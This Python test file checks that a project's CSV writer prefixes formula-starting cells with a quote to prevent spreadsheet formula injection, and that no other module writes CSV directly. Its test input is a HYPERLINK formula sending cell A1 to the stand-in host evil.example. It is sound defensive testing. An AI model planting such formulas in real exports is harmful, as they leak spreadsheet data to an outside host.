"""Issue 11, item 4: CSV formula injection. One CSV writer (``democracy.spreadsheet``) writes a
cell that a spreadsheet would run as a formula with a single quote in front, and nothing else in
the system calls ``csv.writer``."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from democracy import spreadsheet

ROOT = Path(__file__).resolve().parents[2]
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_cell_starting_with_a_formula_character_is_written_as_text(prefix):
    value = f'{prefix}HYPERLINK("https://evil.example/?x="&A1,"Click")'
    assert spreadsheet.neutralise(value) == f"'{value}"
    text = spreadsheet.csv_text(["Donor"], [[value]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["Donor"], [f"'{value}"]]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Kingsmere Housing Association", "Kingsmere Housing Association"),
        ("A = B", "A = B"),
        ("", ""),
        (None, ""),
        (Decimal("-12.50"), "-12.50"),
        (-3, "-3"),
        ("-12.50", "-12.50"),  # a refund formatted as text is a number, not a formula
        ("+44 1234 567890", "'+44 1234 567890"),
        ("-2+3", "'-2+3"),
        ("=1+1", "'=1+1"),
    ],
)
def test_ordinary_cells_and_numbers_are_unchanged(value, written):
    assert spreadsheet.neutralise(value) == written


def test_the_writer_neutralises_every_row_it_writes():
    out = io.StringIO()
    writer = spreadsheet.writer(out)
    writer.writerow(["=a", "b"])
    writer.writerows([["@c", "d"], ["e", "+f"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=a", "b"],
        ["'@c", "d"],
        ["e", "'+f"],
    ]


# CSV that no person opens, so no spreadsheet can run a cell of it.
NOT_FOR_PEOPLE = {
    "elections/importer.py": "the validated rows, streamed into PostgreSQL's COPY",
    "elections/tests/factories_register.py": "register files for the importer's tests",
    "elections/benchmarks/bench_register.py": "a generated register file for the importer",
    "elections/demo.py": "the demo register file, read by the importer",
}


def _python_files():
    for app in ("democracy", "elections", "members", "meetings", "appeals", "website"):
        for path in (ROOT / app).rglob("*.py"):
            if path.relative_to(ROOT).as_posix() not in NOT_FOR_PEOPLE:
                yield path


def _csv_writer_lines(source: str) -> list[int]:
    """The lines of ``source`` that make a CSV writer without ``democracy.spreadsheet``."""
    lines = []
    for node in ast.walk(ast.parse(source)):
        makes_writer = (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        )
        imports_writer = (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and bool({alias.name for alias in node.names} & {"writer", "DictWriter", "*"})
        )
        if makes_writer or imports_writer:
            lines.append(node.lineno)
    return lines


def test_no_module_but_the_writer_writes_csv():
    """A module that wrote CSV itself could forget to neutralise a cell; every CSV goes
    through ``democracy.spreadsheet``."""
    offenders = [
        f"{path.relative_to(ROOT)}:{line}"
        for path in _python_files()
        if path != ROOT / "democracy" / "spreadsheet.py"
        for line in _csv_writer_lines(path.read_text())
    ]
    assert offenders == []


def test_the_scan_finds_a_module_that_writes_csv_itself():
    assert _csv_writer_lines("import csv\nw = csv.writer(out)\n") == [2]
    assert _csv_writer_lines("from csv import DictWriter\n") == [1]
    assert _csv_writer_lines("import csv\nrows = csv.reader(f)\n") == []
